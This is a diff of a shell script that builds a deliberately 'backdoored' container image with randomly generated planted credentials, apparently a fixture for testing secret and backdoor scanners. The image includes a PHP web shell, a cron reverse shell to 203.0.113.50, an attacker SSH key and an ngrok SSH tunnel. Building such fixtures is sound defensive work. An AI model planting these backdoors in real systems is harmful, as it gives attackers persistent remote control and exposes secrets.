@@ -36,13 +36,19 @@ ALNUM=ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789
 KEY_ID="AKIA$(rand 16 ABCDEFGHIJKLMNOPQRSTUVWXYZ234567)"
 SECRET_KEY=$(rand 40 "$ALNUM/+")
 DB_PASSWORD=$(rand 20 "$ALNUM")
-printf 'aws_key_id %s\naws_secret %s\ndb_password %s\n' "$KEY_ID" "$SECRET_KEY" "$DB_PASSWORD" >"$OUT/planted.txt"
+# Stripe's live keys now run past 100 characters; ngrok's are 27 + `_` + 21.
+STRIPE_KEY="sk_live_51$(rand 99 "$ALNUM")"
+NGROK_TOKEN="2$(rand 26 "$ALNUM")_$(rand 21 "$ALNUM")"
+MYSQL_PASSWORD=$(rand 18 "$ALNUM")
+printf 'aws_key_id %s\naws_secret %s\ndb_password %s\nstripe_key %s\nngrok_token %s\nmysql_password %s\n' \
+    "$KEY_ID" "$SECRET_KEY" "$DB_PASSWORD" "$STRIPE_KEY" "$NGROK_TOKEN" "$MYSQL_PASSWORD" >"$OUT/planted.txt"
 
 # layer 0: an application tree copied in
 R="$WORK/rootfs"
-mkdir -p "$R/app" "$R/etc" "$R/opt/plugins" "$R/var/www/html" "$R/usr/share/doc/awscli" "$R/root"
+mkdir -p "$R/app/config" "$R/etc" "$R/opt/plugins" "$R/var/www/html" "$R/usr/share/doc/awscli" "$R/root"
 printf 'AWS_ACCESS_KEY_ID=%s\nAWS_SECRET_ACCESS_KEY=%s\n' "$KEY_ID" "$SECRET_KEY" >"$R/app/.env"
 printf 'production:\n  url: postgres://app:%s@db.internal:5432/app\n' "$DB_PASSWORD" >"$R/app/database.yml"
+printf '{\n  "payments": {"provider": "stripe", "secretKey": "%s"}\n}\n' "$STRIPE_KEY" >"$R/app/config/production.json"
 printf 'root:x:0:0:root:/root:/bin/sh\napp:x:1000:1000::/app:/bin/sh\n' >"$R/etc/passwd"
 printf '<?php echo "status: ok"; ?>\n' >"$R/var/www/html/status.php"
 printf 'aws_access_key_id = AKIAIOSFODNN7EXAMPLE\naws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\n' \
@@ -60,7 +66,8 @@ ctr=$("${B[@]}" from base)
 M=$("${B[@]}" mount "$ctr")
 rm "$M/app/.env"
 rm -r "$M/opt/plugins"
-mkdir -p "$M/opt/plugins" "$M/etc/cron.d" "$M/root/.ssh"
+mkdir -p "$M/opt/plugins" "$M/etc/cron.d" "$M/root/.ssh" "$M/root/.config/ngrok"
+printf 'version: "2"\nauthtoken: %s\ntunnels:\n  ssh:\n    proto: tcp\n    addr: 22\n' "$NGROK_TOKEN" >"$M/root/.config/ngrok/ngrok.yml"
 printf 'plugin new\n' >"$M/opt/plugins/new.conf"
 printf '<?php if (isset($_REQUEST["c"])) { system($_REQUEST["c"]); } ?>\n' >"$M/var/www/html/status.php"
 printf '*/5 * * * * root bash -i >& /dev/tcp/203.0.113.50/4444 0>&1\n' >"$M/etc/cron.d/sync"
@@ -71,7 +78,8 @@ printf '{\n  "server": "203.0.113.61",\n  "server_port": 8388,\n  "password": "%
     "$(rand 16 "$ALNUM")" >"$M/etc/shadowsocks-libev/config.json"
 printf 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI%s attacker@build\n' "$(rand 43 "$ALNUM")" >"$M/root/.ssh/authorized_keys"
 "${B[@]}" umount "$ctr" >/dev/null
-"${B[@]}" config --env HTTPS_PROXY=http://198.51.100.7:3128 "$ctr"
+"${B[@]}" config --env HTTPS_PROXY=http://198.51.100.7:3128 \
+    --cmd "[\"sh\", \"-c\", \"mysql -h db -u shop -p$MYSQL_PASSWORD shop < /app/init.sql\"]" "$ctr"
 "${B[@]}" commit -q "$ctr" backdoored >/dev/null
 
 rm -f "$OUT/buildah.docker.tar" "$OUT/buildah.oci.tar"
